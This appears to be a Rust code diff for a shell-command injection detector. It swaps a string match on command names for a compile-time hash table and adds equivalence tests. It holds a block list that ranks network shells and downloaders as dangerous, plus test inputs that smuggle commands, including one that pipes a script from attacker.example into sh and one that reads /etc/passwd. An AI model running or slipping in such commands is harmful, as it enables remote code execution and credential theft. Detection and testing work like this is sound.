@@ -252,37 +252,234 @@ fn command(word: &str) -> Option<Shape> {
     lower.copy_from_slice(name.as_bytes());
     lower.make_ascii_lowercase();
     // Windows commands are case-insensitive; POSIX ones are not (`ID` is not `id`).
-    match &*lower {
-        b"whoami" | b"ipconfig" | b"systeminfo" | b"tasklist" | b"netstat" | b"ifconfig"
-        | b"hostname" => return Some(Shape::Alone),
-        b"powershell" | b"pwsh" | b"certutil" | b"bitsadmin" | b"wmic" | b"mshta" | b"rundll32"
-        | b"regsvr32" | b"cscript" | b"wscript" => return Some(Shape::Dangerous),
-        _ => {}
+    if let Some(shape) = WINDOWS.get(lower) {
+        return Some(shape);
     }
+    // The name as it is (`base64`, `sqlite3`), else without a version (`python3.12`).
     let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
-    Some(match base {
-        "id" | "uname" | "ls" | "env" | "printenv" | "pwd" | "ps" | "w" | "last" | "lsof"
-        | "dir" => Shape::Alone,
-        "bash" | "sh" | "zsh" | "dash" | "ksh" | "csh" | "tcsh" | "ash" | "busybox" | "python"
-        | "perl" | "ruby" | "php" | "node" | "nodejs" | "lua" | "curl" | "wget" | "nc" | "ncat"
-        | "netcat" | "socat" | "telnet" | "mkfifo" | "mknod" | "openssl" | "xterm" | "nslookup"
-        | "tftp" | "ftp" | "scp" | "ssh" | "sudo" | "crontab" | "nohup" | "base64" | "xxd"
-        | "chmod" | "chown" | "useradd" | "awk" | "gawk" | "xargs" | "timeout" | "exec"
-        | "eval" | "cmd" => Shape::Dangerous,
-        "cat" | "tac" | "head" | "tail" | "more" | "less" | "rm" | "cp" | "mv" | "touch"
-        | "echo" | "printf" | "sleep" | "ping" | "dig" | "host" | "kill" | "pkill" | "find"
-        | "grep" | "sed" | "tar" | "zip" | "unzip" | "dd" | "date" | "type" | "net" | "reg"
-        | "whois" | "traceroute" | "tee" | "source" | "export" | "set" | "su" | "passwd" | "wc"
-        | "sort" | "od" | "strings" | "file" | "stat" | "mount" | "ip" | "arp" | "route"
-        | "iptables" | "systemctl" | "service" | "aws" | "java" | "mysql" | "psql" | "sqlite3"
-        | "git" | "nmap" | "cd" | "npm" | "npx" | "yarn" | "pip" | "pip3" | "docker" | "make"
-        | "cargo" | "go" | "kubectl" | "terraform" | "mvn" | "gradle" | "del" | "erase" | "rd"
-        | "rmdir" | "copy" | "move" | "ren" | "attrib" | "icacls" | "takeown" | "schtasks"
-        | "sc" | "taskkill" | "findstr" | "start" | "wevtutil" | "vssadmin" | "bcdedit" => {
-            Shape::Args
+    POSIX
+        .get(name.as_bytes())
+        .or_else(|| POSIX.get(base.as_bytes()))
+}
+
+/// Commands Windows runs whatever their case (looked up in lower case).
+const WINDOWS: Names<64> = Names::new(&[
+    (b"whoami", Shape::Alone),
+    (b"ipconfig", Shape::Alone),
+    (b"systeminfo", Shape::Alone),
+    (b"tasklist", Shape::Alone),
+    (b"netstat", Shape::Alone),
+    (b"ifconfig", Shape::Alone),
+    (b"hostname", Shape::Alone),
+    (b"powershell", Shape::Dangerous),
+    (b"pwsh", Shape::Dangerous),
+    (b"certutil", Shape::Dangerous),
+    (b"bitsadmin", Shape::Dangerous),
+    (b"wmic", Shape::Dangerous),
+    (b"mshta", Shape::Dangerous),
+    (b"rundll32", Shape::Dangerous),
+    (b"regsvr32", Shape::Dangerous),
+    (b"cscript", Shape::Dangerous),
+    (b"wscript", Shape::Dangerous),
+]);
+
+/// POSIX commands (case-sensitive), looked up without a trailing version (`python3.12`).
+const POSIX: Names<512> = Names::new(&[
+    (b"id", Shape::Alone),
+    (b"uname", Shape::Alone),
+    (b"ls", Shape::Alone),
+    (b"env", Shape::Alone),
+    (b"printenv", Shape::Alone),
+    (b"pwd", Shape::Alone),
+    (b"ps", Shape::Alone),
+    (b"w", Shape::Alone),
+    (b"last", Shape::Alone),
+    (b"lsof", Shape::Alone),
+    (b"dir", Shape::Alone),
+    (b"bash", Shape::Dangerous),
+    (b"sh", Shape::Dangerous),
+    (b"zsh", Shape::Dangerous),
+    (b"dash", Shape::Dangerous),
+    (b"ksh", Shape::Dangerous),
+    (b"csh", Shape::Dangerous),
+    (b"tcsh", Shape::Dangerous),
+    (b"ash", Shape::Dangerous),
+    (b"busybox", Shape::Dangerous),
+    (b"python", Shape::Dangerous),
+    (b"perl", Shape::Dangerous),
+    (b"ruby", Shape::Dangerous),
+    (b"php", Shape::Dangerous),
+    (b"node", Shape::Dangerous),
+    (b"nodejs", Shape::Dangerous),
+    (b"lua", Shape::Dangerous),
+    (b"curl", Shape::Dangerous),
+    (b"wget", Shape::Dangerous),
+    (b"nc", Shape::Dangerous),
+    (b"ncat", Shape::Dangerous),
+    (b"netcat", Shape::Dangerous),
+    (b"socat", Shape::Dangerous),
+    (b"telnet", Shape::Dangerous),
+    (b"mkfifo", Shape::Dangerous),
+    (b"mknod", Shape::Dangerous),
+    (b"openssl", Shape::Dangerous),
+    (b"xterm", Shape::Dangerous),
+    (b"nslookup", Shape::Dangerous),
+    (b"tftp", Shape::Dangerous),
+    (b"ftp", Shape::Dangerous),
+    (b"scp", Shape::Dangerous),
+    (b"ssh", Shape::Dangerous),
+    (b"sudo", Shape::Dangerous),
+    (b"crontab", Shape::Dangerous),
+    (b"nohup", Shape::Dangerous),
+    (b"base64", Shape::Dangerous),
+    (b"xxd", Shape::Dangerous),
+    (b"chmod", Shape::Dangerous),
+    (b"chown", Shape::Dangerous),
+    (b"useradd", Shape::Dangerous),
+    (b"awk", Shape::Dangerous),
+    (b"gawk", Shape::Dangerous),
+    (b"xargs", Shape::Dangerous),
+    (b"timeout", Shape::Dangerous),
+    (b"exec", Shape::Dangerous),
+    (b"eval", Shape::Dangerous),
+    (b"cmd", Shape::Dangerous),
+    (b"cat", Shape::Args),
+    (b"tac", Shape::Args),
+    (b"head", Shape::Args),
+    (b"tail", Shape::Args),
+    (b"more", Shape::Args),
+    (b"less", Shape::Args),
+    (b"rm", Shape::Args),
+    (b"cp", Shape::Args),
+    (b"mv", Shape::Args),
+    (b"touch", Shape::Args),
+    (b"echo", Shape::Args),
+    (b"printf", Shape::Args),
+    (b"sleep", Shape::Args),
+    (b"ping", Shape::Args),
+    (b"dig", Shape::Args),
+    (b"host", Shape::Args),
+    (b"kill", Shape::Args),
+    (b"pkill", Shape::Args),
+    (b"find", Shape::Args),
+    (b"grep", Shape::Args),
+    (b"sed", Shape::Args),
+    (b"tar", Shape::Args),
+    (b"zip", Shape::Args),
+    (b"unzip", Shape::Args),
+    (b"dd", Shape::Args),
+    (b"date", Shape::Args),
+    (b"type", Shape::Args),
+    (b"net", Shape::Args),
+    (b"reg", Shape::Args),
+    (b"whois", Shape::Args),
+    (b"traceroute", Shape::Args),
+    (b"tee", Shape::Args),
+    (b"source", Shape::Args),
+    (b"export", Shape::Args),
+    (b"set", Shape::Args),
+    (b"su", Shape::Args),
+    (b"passwd", Shape::Args),
+    (b"wc", Shape::Args),
+    (b"sort", Shape::Args),
+    (b"od", Shape::Args),
+    (b"strings", Shape::Args),
+    (b"file", Shape::Args),
+    (b"stat", Shape::Args),
+    (b"mount", Shape::Args),
+    (b"ip", Shape::Args),
+    (b"arp", Shape::Args),
+    (b"route", Shape::Args),
+    (b"iptables", Shape::Args),
+    (b"systemctl", Shape::Args),
+    (b"service", Shape::Args),
+    (b"aws", Shape::Args),
+    (b"java", Shape::Args),
+    (b"mysql", Shape::Args),
+    (b"psql", Shape::Args),
+    (b"sqlite3", Shape::Args),
+    (b"git", Shape::Args),
+    (b"nmap", Shape::Args),
+    (b"cd", Shape::Args),
+    (b"npm", Shape::Args),
+    (b"npx", Shape::Args),
+    (b"yarn", Shape::Args),
+    (b"pip", Shape::Args),
+    (b"pip3", Shape::Args),
+    (b"docker", Shape::Args),
+    (b"make", Shape::Args),
+    (b"cargo", Shape::Args),
+    (b"go", Shape::Args),
+    (b"kubectl", Shape::Args),
+    (b"terraform", Shape::Args),
+    (b"mvn", Shape::Args),
+    (b"gradle", Shape::Args),
+    (b"del", Shape::Args),
+    (b"erase", Shape::Args),
+    (b"rd", Shape::Args),
+    (b"rmdir", Shape::Args),
+    (b"copy", Shape::Args),
+    (b"move", Shape::Args),
+    (b"ren", Shape::Args),
+    (b"attrib", Shape::Args),
+    (b"icacls", Shape::Args),
+    (b"takeown", Shape::Args),
+    (b"schtasks", Shape::Args),
+    (b"sc", Shape::Args),
+    (b"taskkill", Shape::Args),
+    (b"findstr", Shape::Args),
+    (b"start", Shape::Args),
+    (b"wevtutil", Shape::Args),
+    (b"vssadmin", Shape::Args),
+    (b"bcdedit", Shape::Args),
+]);
+
+/// Command names in an open-addressing hash table built at compile time: a lookup hashes the
+/// word once and compares it with one name or two. (A `match` on a hundred strings compared
+/// the word with each name of its length in turn, a quarter of the shell detector's time on
+/// a value that is commands from end to end.) `N` is a power of two, at least twice the names.
+struct Names<const N: usize> {
+    slots: [Option<(&'static [u8], Shape)>; N],
+}
+
+impl<const N: usize> Names<N> {
+    const fn hash(word: &[u8]) -> usize {
+        // FNV-1a.
+        let mut h: u32 = 0x811c_9dc5;
+        let mut i = 0;
+        while i < word.len() {
+            h ^= word[i] as u32;
+            h = h.wrapping_mul(0x0100_0193);
+            i += 1;
         }
-        _ => return None,
-    })
+        h as usize & (N - 1)
+    }
+
+    const fn new(names: &[(&'static [u8], Shape)]) -> Names<N> {
+        assert!(N.is_power_of_two() && names.len() * 2 <= N);
+        let mut slots = [None; N];
+        let mut k = 0;
+        while k < names.len() {
+            let mut at = Self::hash(names[k].0);
+            while slots[at].is_some() {
+                at = (at + 1) & (N - 1);
+            }
+            slots[at] = Some(names[k]);
+            k += 1;
+        }
+        Names { slots }
+    }
+
+    fn get(&self, word: &[u8]) -> Option<Shape> {
+        let mut at = Self::hash(word);
+        loop {
+            let (name, shape) = self.slots[at]?;
+            if name == word {
+                return Some(shape);
+            }
+            at = (at + 1) & (N - 1);
+        }
+    }
 }
 
 /// A first argument a shell user would type: a flag, path, variable, number, host or address,
@@ -909,6 +1106,126 @@ fn found(value: &str, at: usize, what: &'static str) -> Found {
 mod tests {
     use super::*;
 
+    /// `command` as it was, a `match` on the names: the reference.
+    fn command_by_match(word: &str) -> Option<Shape> {
+        if word.len() > NAME_CAP {
+            return None;
+        }
+        // Words here are short: a plain loop beats a vectorised search's set-up.
+        let name = match word.bytes().rposition(|c| c == b'/' || c == b'\\') {
+            Some(at) => &word[at + 1..],
+            None => word,
+        };
+        // The two-letter filter first: most words after an operator are not commands.
+        let b = name.as_bytes();
+        let first = b.first()?.to_ascii_lowercase();
+        if !first.is_ascii_lowercase() {
+            return None;
+        }
+        let second = match b.get(1).map(u8::to_ascii_lowercase) {
+            Some(c) if c.is_ascii_lowercase() => c - b'a',
+            _ => 26,
+        };
+        if PREFIXES[(first - b'a') as usize] & (1 << second) == 0 {
+            return None;
+        }
+        let name = name.strip_suffix(".exe").unwrap_or(name);
+        let mut buf = [0u8; 48];
+        let lower = &mut buf[..name.len()];
+        lower.copy_from_slice(name.as_bytes());
+        lower.make_ascii_lowercase();
+        // Windows commands are case-insensitive; POSIX ones are not (`ID` is not `id`).
+        match &*lower {
+            b"whoami" | b"ipconfig" | b"systeminfo" | b"tasklist" | b"netstat" | b"ifconfig"
+            | b"hostname" => return Some(Shape::Alone),
+            b"powershell" | b"pwsh" | b"certutil" | b"bitsadmin" | b"wmic" | b"mshta"
+            | b"rundll32" | b"regsvr32" | b"cscript" | b"wscript" => return Some(Shape::Dangerous),
+            _ => {}
+        }
+        let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        let shape_of =
+            |base: &str| {
+                Some(match base {
+                    "id" | "uname" | "ls" | "env" | "printenv" | "pwd" | "ps" | "w" | "last"
+                    | "lsof" | "dir" => Shape::Alone,
+                    "bash" | "sh" | "zsh" | "dash" | "ksh" | "csh" | "tcsh" | "ash" | "busybox"
+                    | "python" | "perl" | "ruby" | "php" | "node" | "nodejs" | "lua" | "curl"
+                    | "wget" | "nc" | "ncat" | "netcat" | "socat" | "telnet" | "mkfifo"
+                    | "mknod" | "openssl" | "xterm" | "nslookup" | "tftp" | "ftp" | "scp"
+                    | "ssh" | "sudo" | "crontab" | "nohup" | "base64" | "xxd" | "chmod"
+                    | "chown" | "useradd" | "awk" | "gawk" | "xargs" | "timeout" | "exec"
+                    | "eval" | "cmd" => Shape::Dangerous,
+                    "cat" | "tac" | "head" | "tail" | "more" | "less" | "rm" | "cp" | "mv"
+                    | "touch" | "echo" | "printf" | "sleep" | "ping" | "dig" | "host" | "kill"
+                    | "pkill" | "find" | "grep" | "sed" | "tar" | "zip" | "unzip" | "dd"
+                    | "date" | "type" | "net" | "reg" | "whois" | "traceroute" | "tee"
+                    | "source" | "export" | "set" | "su" | "passwd" | "wc" | "sort" | "od"
+                    | "strings" | "file" | "stat" | "mount" | "ip" | "arp" | "route"
+                    | "iptables" | "systemctl" | "service" | "aws" | "java" | "mysql" | "psql"
+                    | "sqlite3" | "git" | "nmap" | "cd" | "npm" | "npx" | "yarn" | "pip"
+                    | "pip3" | "docker" | "make" | "cargo" | "go" | "kubectl" | "terraform"
+                    | "mvn" | "gradle" | "del" | "erase" | "rd" | "rmdir" | "copy" | "move"
+                    | "ren" | "attrib" | "icacls" | "takeown" | "schtasks" | "sc" | "taskkill"
+                    | "findstr" | "start" | "wevtutil" | "vssadmin" | "bcdedit" => Shape::Args,
+                    _ => return None,
+                })
+            };
+        // Changed since: `base64` and `sqlite3` were looked up without their digits only.
+        shape_of(name).or_else(|| shape_of(base))
+    }
+
+    #[test]
+    fn commands_are_looked_up_as_by_the_match_on_their_names() {
+        for name in COMMAND_NAMES {
+            assert!(command(name).is_some(), "{name}");
+        }
+        const PIECES: &[&str] = &[
+            "c",
+            "a",
+            "t",
+            "s",
+            "h",
+            "p",
+            "y",
+            "o",
+            "n",
+            "3",
+            ".",
+            "/",
+            "\\",
+            "E",
+            "X",
+            "e",
+            "x",
+            "cat",
+            "sh",
+            "python",
+            "id",
+            "ID",
+            "Whoami",
+            "powershell",
+            "wget",
+            "cmd",
+            "w",
+            "ls",
+            "rm",
+            "go",
+            "-",
+            "_",
+            "é",
+        ];
+        let found = crate::detect::agrees_with_reference(
+            PIECES,
+            41,
+            60_000,
+            61,
+            command,
+            command_by_match,
+            Option::is_some,
+        );
+        assert!(found > 3_000, "{found}");
+    }
+
     /// `separators` as it was when `$`, `<` and `>` were looked at in their own right: the
     /// reference the `(`-first version must agree with.
     /// Bytes that start an operator, a quote or an escape outside quotes.
@@ -1233,6 +1550,9 @@ mod tests {
     fn injections() {
         for v in [
             "report.pdf; cat /etc/passwd",
+            // Names that end in digits.
+            "a;base64 -d payload.b64",
+            "a;sqlite3 /tmp/x.db",
             "x && curl http://attacker.example/x.sh | sh",
             "file.txt | whoami",
             "a`id`b",
